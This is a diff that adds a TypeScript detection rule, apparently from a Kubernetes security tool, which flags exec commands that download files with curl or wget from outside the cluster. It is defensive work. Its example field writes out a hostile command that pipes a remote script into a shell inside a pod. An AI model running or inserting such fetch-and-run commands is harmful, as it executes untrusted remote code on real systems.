@@ -1,0 +1,33 @@
+import { quote } from '../../text.ts';
+import { callRule } from '../call-rule.ts';
+import { downloadIn } from '../download.ts';
+import { EXECS, execOf, seenInCommand } from '../exec.ts';
+
+/** Something that is only shown is read by a person; attackers keep or run what they fetch. */
+const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
+
+/** A command, run in a container through the API, that fetches something from outside. */
+export const execDownload = callRule({
+  id: 'exec-download',
+  title: 'Download into a pod',
+  sees: 'An exec whose command fetches something with curl or wget from outside of the cluster and keeps or runs it (high), or shows it (medium, 0.40). Addresses of the own host, of Services and of private networks are none, nor are pages about health or keys that are only shown.',
+  why: 'An image has what its program needs: tools that come later are those of somebody else.',
+  technique: [
+    { id: 'T1105', name: 'Ingress Tool Transfer' },
+    { id: 'T1609', name: 'Container Administration Command' },
+  ],
+  severity: 'high',
+  confidence: 0.65,
+  family: 'exec',
+  falsePositives: ['Fetching of a debugging tool by an operator', 'Tests of the way out of a cluster'],
+  calls: EXECS,
+  example: "kubectl exec -n shop cart-7d9f -- sh -c 'curl -s http://203.0.113.9/x.sh | sh'",
+  match: (signal) => {
+    const line = execOf(signal)?.line;
+    const download = line === undefined ? undefined : downloadIn(line);
+    if (download === undefined) return undefined;
+    const { host, kept } = download;
+    const does = kept ? 'fetches something to keep or run' : 'shows something';
+    return seenInCommand(signal, () => `${does} from ${quote(host, 253)}`, kept ? {} : SHOWN);
+  },
+});
